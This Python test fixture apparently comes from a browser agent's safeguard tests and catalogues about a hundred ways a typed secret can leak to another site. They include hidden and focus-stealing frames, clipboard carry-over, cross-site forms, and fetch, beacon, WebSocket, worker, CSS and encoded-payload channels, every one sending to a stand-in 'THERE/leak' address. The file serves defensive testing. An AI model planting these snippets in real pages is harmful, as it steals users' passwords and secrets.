# ruff: noqa: E501
"""Ways by which a secret could get to another site.

Each is a page of the site HERE, to which both secrets of the tests belong, and what the agent does on it; NAME is the
secret it writes. `other` are pages of THERE, to which only one of them belongs. Whatever is sent to an address that
begins with /leak has leaked. Buttons lie at (100, 30), fields at (100, 90).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from holotron.types import Action, Click, Drag, Goto, PressKeys, Wait, Write

AT = 'style="position:fixed;left:0;top:0;width:200px;height:60px"'
IN = 'style="position:fixed;left:0;top:70px;width:200px;height:40px"'
FRAME = 'style="position:fixed;left:0;top:70px;width:300px;height:120px;border:0"'
FIELD = f"<input id=i name=pw {IN}>"
TYPE = Write("<secret:NAME>", 100, 90)
PRESS = Click(100, 30)
TELLS = "oninput=\"fetch('/leak?d='+encodeURIComponent(this.value))\""  # a field of the other site that passes on what it gets
THEIRS = (
    f"<body style='margin:0'><input autofocus {TELLS} style='position:fixed;left:0;top:0;width:300px;height:120px'>"
)
STEALS = THEIRS + "<script>addEventListener('focus',()=>document.querySelector('input').focus())</script>"
COPY = (PressKeys(("Control", "a")), PressKeys(("Control", "c")))


@dataclass(frozen=True)
class Way:
    name: str
    html: str
    actions: tuple[Action, ...] = (TYPE, PRESS)
    pages: dict[str, str] = field(default_factory=dict)
    other: dict[str, str] = field(default_factory=dict)
    headers: dict[str, dict[str, str]] = field(default_factory=dict)  # of answers of HERE
    asked: bool = True  # a person is asked, or it is dropped on record; else the agent is told why it was not done
    silent: bool = False  # dropped without a question
    top: bool = False  # only in a page of its own, not in a frame of one

    @property
    def together(self) -> bool:
        """Whether it can be tried at the same time as others, each in its frame."""
        pressed = self.actions[:2] == (TYPE, PRESS) and all(isinstance(action, Wait) for action in self.actions[2:])
        return pressed and not self.top


def button(script: str) -> str:
    return f'<button {AT} onclick="{script}">Go</button>'


def sends(script: str) -> str:
    return FIELD + button(script)


def leak(value: str) -> str:
    """A field and a button that sends it, encoded somehow."""
    return sends(f"v=i.value;fetch('THERE/leak?d='+{value},{{mode:'no-cors'}})")


MISPLACED = [
    Way("into another site's frame", f"<iframe {FRAME} src=THERE/f></iframe>", (TYPE,), other={"/f": THEIRS}, asked=False),
    Way("behind a link", f"<a href=THERE/f {IN}>x</a>", (TYPE, Wait(0.3), Write("<secret:NAME>", 100, 60)), other={"/f": THEIRS}, asked=False),
    Way("behind a link, at once", f"<a href=THERE/f {IN}>x</a>", (TYPE, Wait(0.3), Write("<secret:NAME>")), other={"/f": THEIRS}, asked=False),
    Way("behind a link in a new tab", f"<a href=THERE/f target=_blank {IN}>x</a>", (TYPE, Wait(0.3), Write("<secret:NAME>")), other={"/f": THEIRS}, asked=False),
    Way("the focus goes to a frame", f"<input {IN} onfocus=\"setTimeout(()=>f.focus())\"><iframe id=f src=THERE/f></iframe>", (Click(100, 90), Wait(0.2), Write("<secret:NAME>")), other={"/f": STEALS}, asked=False),
    Way("a frame takes the focus", f"<input {IN}><iframe src=THERE/f></iframe>", (Click(100, 90), Wait(0.5), Write("<secret:NAME>")), other={"/f": THEIRS + "<script>setInterval(()=>document.querySelector('input').focus(),50)</script>"}, asked=False),
    Way("a frame takes the focus at the click", f"<input {IN} onmousedown='event.preventDefault();f.focus()'><iframe id=f src=THERE/f></iframe>", (TYPE,), other={"/f": STEALS}, asked=False),
    Way("a frame in an own frame", f"<iframe {FRAME} src=/g></iframe>", (TYPE,), pages={"/g": "<body style='margin:0'><iframe src=THERE/f style='border:0;width:300px;height:120px'></iframe>"}, other={"/f": THEIRS}, asked=False),
    Way("a transparent frame over a field", f"{FIELD}<iframe {FRAME.replace('border', 'opacity:0;border')} src=THERE/f></iframe>", (TYPE,), other={"/f": THEIRS}, asked=False),
    Way("a window opens at the click", f"<input {IN} onmousedown=\"window.open('THERE/f')\">", (TYPE, Wait(0.5), Write("<secret:NAME>")), other={"/f": THEIRS}, asked=False),
    Way("the page leaves at the click", f"<input {IN} onmousedown=\"location='THERE/f'\">", (TYPE, Wait(0.5), Write("<secret:NAME>")), other={"/f": THEIRS}, asked=False),
    Way("a label of a page that leaves", f"<label {IN} onclick=\"location='THERE/f'\">x</label>", (TYPE, Wait(0.5), Write("<secret:NAME>")), other={"/f": THEIRS}, asked=False),
    Way("the other site in its own tab", "x", (Goto("THERE/f"), Write("<secret:NAME>", 100, 60)), other={"/f": THEIRS}, asked=False),
]  # fmt: skip

CARRIED = [
    Way("copied into a frame", f"{FIELD}<iframe style='position:fixed;left:0;top:120px;width:300px;height:120px;border:0' src=THERE/f></iframe>", (TYPE, *COPY, Click(100, 180), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
    Way("copied into another tab", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
    Way("cut", FIELD, (TYPE, PressKeys(("Control", "a")), PressKeys(("Control", "x")), Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
    Way("pasted the other way", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Shift", "Insert"))), other={"/f": THEIRS}, asked=False),
    Way("pasted with keys by their places", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("ControlLeft", "KeyV"))), other={"/f": THEIRS}, asked=False),
    Way("pasted before another key", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v", "b"))), other={"/f": THEIRS}, asked=False),
    Way("pasted without its looks", FIELD, (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "Shift", "v"))), other={"/f": THEIRS}, asked=False),
    Way("copied by the page", sends("navigator.clipboard.writeText(btoa(i.value))"), (TYPE, PRESS, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
    Way("copied in the page's own way", FIELD + "<script>addEventListener('copy',e=>{e.clipboardData.setData('text/plain','it is '+i.value);e.preventDefault()})</script>", (TYPE, *COPY, Goto("THERE/f"), Click(100, 60), PressKeys(("Control", "v"))), other={"/f": THEIRS}, asked=False),
    Way("dragged into a frame", f"{FIELD}<iframe style='position:fixed;left:0;top:120px;width:300px;height:120px;border:0' src=THERE/f></iframe>", (TYPE, PressKeys(("Control", "a")), Drag(30, 90, 100, 180)), other={"/f": THEIRS}, asked=False),
    Way("in the window's name", sends("window.name=i.value;location='THERE/f'"), other={"/f": "<script>fetch('/leak?d='+name)</script>"}),
    Way("in a message to a frame", sends("f.contentWindow.postMessage(i.value,'*')") + "<iframe id=f src=THERE/f></iframe>", other={"/f": "<script>onmessage=(e)=>fetch('/leak?d='+e.data)</script>"}),
    Way("in a message to a window", sends("w=window.open('THERE/f');setTimeout(()=>w.postMessage(i.value,'*'),400)"), (TYPE, PRESS, Wait(1)), other={"/f": "<script>onmessage=(e)=>fetch('/leak?d='+e.data)</script>"}, top=True),
    Way("behind the address", sends("location='THERE/leak#'+i.value")),  # which the next page reads
]  # fmt: skip

FORMS = [
    Way("a form to another site", f"<form method=post action=THERE/leak>{FIELD}<button {AT}>Go</button></form>", top=True),
    Way("a form to another site, by enter", f"<form method=post action=THERE/leak>{FIELD}</form>", (Write("<secret:NAME>", 100, 90, press_enter=True),)),
    Way("a form in an address", f"<form action=THERE/leak>{FIELD}<button {AT}>Go</button></form>"),
    Way("a button that knows better", f"<form method=post action=/quiet>{FIELD}<button formaction=THERE/leak {AT}>Go</button></form>"),
    Way("a form in parts", f"<form method=post enctype=multipart/form-data action=THERE/leak>{FIELD}<button {AT}>Go</button></form>"),
    Way("a form into a new tab", f"<form method=post target=_blank action=THERE/leak>{FIELD}<button {AT}>Go</button></form>", (TYPE, PRESS, Wait(0.3)), top=True),
    Way("a form whose address changes", f"<form method=post action=/quiet onsubmit=\"this.action='THERE/leak'\">{FIELD}<button {AT}>Go</button></form>"),
    Way("a copy of the form", sends("v=i.value;f=document.createElement('form');f.action='THERE/leak';f.method='post';f.append(i.cloneNode());document.body.append(f);f.elements[0].value=v;f.submit()")),
    Way("an own form that is sent on", f"<form method=post action='/on?to=REDIRECT'>{FIELD}<button {AT}>Go</button></form>"),
    Way("an own address that leads away", sends("location='/redirect?to='+encodeURIComponent('THERE/leak?d='+i.value)")),
]  # fmt: skip

SCRIPTS = [
    Way("while it is typed", f"<input {IN} oninput=\"fetch('THERE/leak?d='+this.value,{{mode:'no-cors'}})\">", (TYPE,)),
    Way("when it is left", f"<input {IN} onchange=\"fetch('THERE/leak',{{method:'POST',mode:'no-cors',body:this.value}})\">", (TYPE, Click(300, 250))),
    Way("plain", leak("v"), top=True),
    Way("in capitals", leak("v.toUpperCase()")),
    Way("for addresses", leak("encodeURIComponent(v)")),
    Way("for addresses, twice", leak("encodeURIComponent([...v].map(c=>'%'+c.charCodeAt().toString(16)).join(''))")),
    Way("as base64", leak("btoa(v)")),
    Way("as base64 inside something", leak("btoa('user:'+v+':x')")),
    Way("as base64 for addresses, without its end", leak("btoa('ab'+v).replace(/=/g,'').replace(/[+]/g,'-')")),
    Way("as base64 of JSON", leak("btoa(JSON.stringify({a:{b:v}}))")),
    Way("as hex", leak("[...v].map(c=>c.charCodeAt().toString(16)).join('')")),
    Way("as numbers", leak("[...v].map(c=>c.charCodeAt()).join('-')")),
    Way("backwards", leak("[...v].reverse().join('')")),
    Way("with something between", leak("[...v].join('.')")),
    Way("its first half", leak("v.slice(0,6)")),
    Way("in pieces", sends("v=i.value;fetch('THERE/leak?a='+v.slice(0,3)+'&b='+v.slice(3,7)+'&c='+v.slice(7),{mode:'no-cors'})")),
    Way("as JSON", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:JSON.stringify({pw:i.value})})")),
    Way("as JSON with escapes", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:JSON.stringify({pw:i.value}).replace(/[A-Za-z]/g,c=>'\\\\u00'+c.charCodeAt().toString(16))})")),
    Way("as wide letters", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:new Uint8Array(Uint16Array.from([...i.value],c=>c.charCodeAt()).buffer)})")),
    Way("as a file", sends("d=new FormData;d.append('f',new File([i.value],'f'));fetch('THERE/leak',{method:'POST',mode:'no-cors',body:d})")),
    Way("behind a megabyte", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:'x'.repeat(1e6)+i.value})")),
    Way("in a header", sends("fetch('THERE/leak',{headers:{'X-A':i.value}})")),
    Way("in an old request", sends("x=new XMLHttpRequest;x.open('GET','THERE/leak?d='+i.value);x.send()")),
    Way("in a path", sends("fetch('THERE/leak/'+btoa(i.value)+'/x.png',{mode:'no-cors'})")),
]  # fmt: skip

CHANNELS = [
    Way("a picture", sends("new window.Image().src='THERE/leak?d='+i.value")),
    Way("a style", sends("s=document.createElement('style');s.textContent=`@import 'THERE/leak?d=${i.value}'`;document.head.append(s)")),
    Way("a background", sends("document.body.style.background=`url(THERE/leak?d=${i.value})`")),
    Way("a script", sends("s=document.createElement('script');s.src='THERE/leak?d='+i.value;document.head.append(s)")),
    Way("a module", sends("import('THERE/leak?d='+i.value).catch(()=>0)")),
    Way("a font", sends("new FontFace('f',`url(THERE/leak?d=${i.value})`).load().catch(()=>0)")),
    Way("a film", sends("v=document.createElement('video');v.src='THERE/leak?d='+i.value;document.body.append(v)")),
    Way("a frame's address", sends("f=document.createElement('iframe');f.src='THERE/leak?d='+i.value;document.body.append(f)")),
    Way("an object", sends("f=document.createElement('object');f.data='THERE/leak?d='+i.value;document.body.append(f)")),
    Way("going there", sends("location='THERE/leak?d='+i.value"), top=True),
    Way("a new window", sends("window.open('THERE/leak?d='+i.value)"), top=True),
    Way("a link", FIELD + f"<a id=a {AT} href=x onmousedown=\"this.href='THERE/leak?d='+i.value\">x</a>", top=True),
    Way("a beacon", sends("navigator.sendBeacon('THERE/leak',i.value)"), silent=True),
    Way("a beacon while leaving", f"{FIELD}<a href=/quiet {AT}>x</a><script>v='';i.oninput=()=>v=i.value;onpagehide=()=>navigator.sendBeacon('THERE/leak',v)</script>", silent=True),
    Way("a request for later", sends("fetchLater('THERE/leak?d='+i.value,{activateAfter:100})"), (TYPE, PRESS, Wait(0.6))),
    Way("a prefetch", sends("l=document.createElement('link');l.rel='prefetch';l.href='THERE/leak?d='+i.value;document.head.append(l)")),
    Way("a preload", sends("l=document.createElement('link');l.rel='preload';l.as='fetch';l.href='THERE/leak?d='+i.value;document.head.append(l)")),
    Way("events", sends("new EventSource('THERE/leak?d='+i.value)")),
    Way("a socket's address", sends("new WebSocket('THERE/leak?d='.replace('http','ws')+i.value)"), asked=False),
    Way("a socket's message", sends("s.send(i.value)") + "<script>s=new WebSocket('THERE/leak'.replace('http','ws'))</script>", asked=False),
    Way("a socket of a clean frame", sends("f=document.createElement('iframe');document.body.append(f);new f.contentWindow.WebSocket('THERE/leak?d='.replace('http','ws')+i.value)"), asked=False),
    Way("a worker", sends("w.postMessage(i.value)") + "<script>w=new Worker('/w.js')</script>", pages={"/w.js": "onmessage=(e)=>fetch('THERE/leak?d='+e.data,{mode:'no-cors'})"}),
    Way("a worker's socket", sends("w.postMessage(i.value)") + "<script>w=new Worker('/w.js')</script>", pages={"/w.js": "onmessage=(e)=>new WebSocket('THERE/leak?d='.replace('http','ws')+e.data)"}, asked=False),
    Way("the socket of a worker from a text", sends("w.postMessage(i.value)") + "<script>w=new Worker(URL.createObjectURL(new Blob([\"onmessage=(e)=>new WebSocket('THERE/leak?d='.replace('http','ws')+e.data)\"])))</script>", asked=False),
    Way("the socket of a frame that was told", sends("f.contentWindow.postMessage(i.value,'*')") + "<iframe id=f src=THERE/f></iframe>", other={"/f": "<script>onmessage=(e)=>new WebSocket(location.origin.replace('http','ws')+'/leak?d='+e.data)</script>"}, asked=False),
    Way("where it came from", sends("history.replaceState(0,'','/?d='+i.value);fetch('THERE/leak',{mode:'no-cors',referrerPolicy:'unsafe-url'})")),
    Way("a report", sends("history.replaceState(0,'','/?d='+i.value);new window.Image().src='/no'"), headers={"/": {"Content-Security-Policy": "img-src 'none'; report-uri THERE/leak"}}, silent=True),
    Way("a drawing's use", sends("document.body.insertAdjacentHTML('beforeend',`<svg><image href='THERE/leak?d=${i.value}'/></svg>`)")),
]  # fmt: skip

TRICKS = [
    Way("a socket of a worker of another kind", sends("w.postMessage(i.value)") + "<script>w=new Worker('/w.js')</script>", pages={"/w.js": "onmessage=(e)=>new WebSocket('THERE/leak?d='.replace('http','ws')+e.data)"}, headers={"/w.js": {"Content-Type": "application/ecmascript"}}, asked=False),
    Way("a socket of a worker with another status", sends("w.postMessage(i.value)") + "<script>w=new Worker('/w.js')</script>", pages={"/w.js": "onmessage=(e)=>new WebSocket('THERE/leak?d='.replace('http','ws')+e.data)"}, headers={"/w.js": {"Status": "203"}}, asked=False),
    Way("a socket of a worker's worker", sends("w.postMessage(i.value)") + "<script>w=new Worker('/w.js')</script>", pages={"/w.js": "v=new Worker('/v.js');onmessage=(e)=>v.postMessage(e.data)", "/v.js": "onmessage=(e)=>new WebSocket('THERE/leak?d='.replace('http','ws')+e.data)"}, asked=False),
    Way("a socket of a worker in an address", sends("w.postMessage(i.value)") + "<script>w=new Worker('data:text/javascript,onmessage=(e)=>new WebSocket(`THERE/leak?d=`.replace(`http`,`ws`)%2Be.data)')</script>", asked=False),
    Way("a socket of a frame with its own text", sends("f.contentWindow.postMessage(i.value,'*')") + "<iframe id=f srcdoc=\"<script>onmessage=(e)=>new WebSocket('THERE/leak?d='.replace('http','ws')+e.data)</script>\"></iframe>", asked=False),
    Way("a socket of a frame in a drawing", sends("f.contentWindow.postMessage(i.value,'*')") + "<iframe id=f src=/d.svg></iframe>", pages={"/d.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>f=document.createElementNS('http://www.w3.org/1999/xhtml','iframe');document.documentElement.append(f);onmessage=(e)=>new (window.WebSocket??f.contentWindow.WebSocket)('THERE/leak?d='.replace('http','ws')+e.data)</script></svg>"}, asked=False),
    Way("behind five megabytes", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:'x'.repeat(5e6)+i.value})")),
    Way("behind many words, encoded twice", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:'abcdefgh '.repeat(200)+btoa(btoa(i.value))})")),
    Way("as a blob", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:new Blob([i.value])})")),
    Way("as a form in lines", f"<form method=post enctype=text/plain action=THERE/leak>{FIELD}<button {AT}>Go</button></form>"),
    Way("as a document", sends("d=document.implementation.createHTMLDocument(i.value);x=new XMLHttpRequest;x.open('POST','THERE/leak');x.send(d)")),
    Way("letters as entities", sends("fetch('THERE/leak',{method:'POST',mode:'no-cors',body:[...i.value].map(c=>'&#'+c.charCodeAt()+';').join('')})")),
]  # fmt: skip

WAYS = [*MISPLACED, *CARRIED, *FORMS, *SCRIPTS, *CHANNELS, *TRICKS]
